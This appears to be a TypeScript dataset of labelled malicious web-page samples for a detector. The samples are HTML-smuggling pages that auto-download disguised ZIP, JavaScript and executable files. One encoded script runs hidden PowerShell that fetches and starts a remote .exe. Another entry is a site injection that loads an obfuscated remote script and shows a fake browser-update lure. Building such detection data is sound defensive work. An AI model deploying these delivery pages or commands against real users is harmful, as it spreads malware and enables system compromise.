import type { Entry } from '../entry.js';

/** HTML smuggling and malware delivery: Blob / data URLs that build archives, disk images, executables or scripts in the page. */
export const entries: Entry[] = [
  {
    id: 'smuggle-blob-zip-invoice',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://secure-fileshare-docs.com/download/Invoice_20261124.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Invoice_20261124</title></head>
<body style="font-family:Segoe UI;text-align:center;padding-top:100px"><h2>Your download will begin shortly...</h2><p>If the download does not start, <a href="#" id="again">click here</a>.</p>
<script>
function b64ToBytes(b){var s=atob(b),a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);return a;}
var payload="UEsDBBQAAAAIAJ1xeFl2n2ZcZAAAAG0AAAAZAAAASW52b2ljZV8yMDI2MTEyNC5wZGYuanOFjkEKwjAQRa9S6F4QKZVC6aLtRnoEF8Wq0TQhmYCE3N1JbaHYzf/Me/NnoGoTC0VgCmPAJrWBiArM2yVg0VhuGcMwRBkWRlBLAwQUAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
function drop(){var blob=new Blob([b64ToBytes(payload)],{type:'application/zip'});var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='Invoice_20261124.zip';document.body.appendChild(a);a.click();}
setTimeout(drop,800);document.getElementById('again').onclick=function(e){e.preventDefault();drop();};
</script></body></html>`,
  },
  {
    id: 'smuggle-data-url-js',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://payment-remittance-advice.com/ra/8812.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Remittance Advice</title></head>
<body style="font-family:Arial;padding:60px"><h2>Remittance Advice #8812</h2><p>The remittance file is attached below. Open it with Windows to view.</p>
<a id="dl" download="Remittance_8812.js" href="data:application/javascript;base64,dmFyIHNoID0gbmV3IEFjdGl2ZVhPYmplY3QoIldTY3JpcHQuU2hlbGwiKTsgc2guUnVuKCJwb3dlcnNoZWxsIC13IGhpZGRlbiAtYyBpd3IgaHR0cHM6Ly9wYXltZW50LXJlbWl0dGFuY2UtYWR2aWNlLmNvbS9wLmV4ZSAtT3V0RmlsZSAkZW52OlRFTVBcXHAuZXhlOyBzdGFydCAkZW52OlRFTVBcXHAuZXhlIik7">Remittance_8812.js</a>
<script>setTimeout(function(){document.getElementById('dl').click();},500);</script></body></html>`,
  },
  {
    id: 'smuggle-svg-embedded',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://voice-msg-player.app/play/msg-44102.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Voice Message (0:42)</title></head>
<body style="font-family:Segoe UI;background:#111;color:#eee;text-align:center;padding-top:80px">
<svg width="300" height="60"><rect width="300" height="60" rx="30" fill="#333"/><polygon points="30,18 30,42 50,30" fill="#1db954"/><text x="70" y="36" fill="#eee">VoiceMessage_0042.wav</text></svg>
<p>Audio codec missing. The player will be downloaded automatically.</p>
<script>
var data = 'data:application/x-msdownload;base64,TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA6AAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu';
var a = document.createElement('a'); a.href = data; a.download = 'VoicePlayer_Setup.exe'; document.body.appendChild(a); a.click();
</script></body></html>`,
  },
  {
    id: 'malware-socgholish-inject',
    label: 'malware',
    kind: 'malware-download',
    url: 'https://www.greenleaf-landscaping.net/services/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Services | Greenleaf Landscaping</title>
<script>;(function(){var s=document.createElement('script');s.async=true;s.src='https://'+['track','analytics-cdn','top'].join('.').replace('.','-').replace('-analytics','.analytics')+'/s/'+btoa(location.hostname)+'.js';var r=document.getElementsByTagName('script')[0];r.parentNode.insertBefore(s,r);})();</script></head>
<body><header><h1>Greenleaf Landscaping</h1><nav><a href="/">Home</a> <a href="/services/">Services</a> <a href="/contact/">Contact</a></nav></header>
<main><h2>Our Services</h2><ul><li>Lawn care</li><li>Hedge trimming</li><li>Seasonal cleanup</li></ul></main>
<div id="upd" style="display:none;position:fixed;inset:0;background:#fff"><h2>Critical Browser Update</h2><p>Your browser is missing a critical security update.</p><a href="https://track.analytics-cdn.top/dl/Browser_Update.js" download="Chrome.Update.js">Download update</a></div>
<script>if(!/bot|crawl|spider/i.test(navigator.userAgent) && /Windows/.test(navigator.userAgent)){document.getElementById('upd').style.display='block';}</script></body></html>`,
  },
];
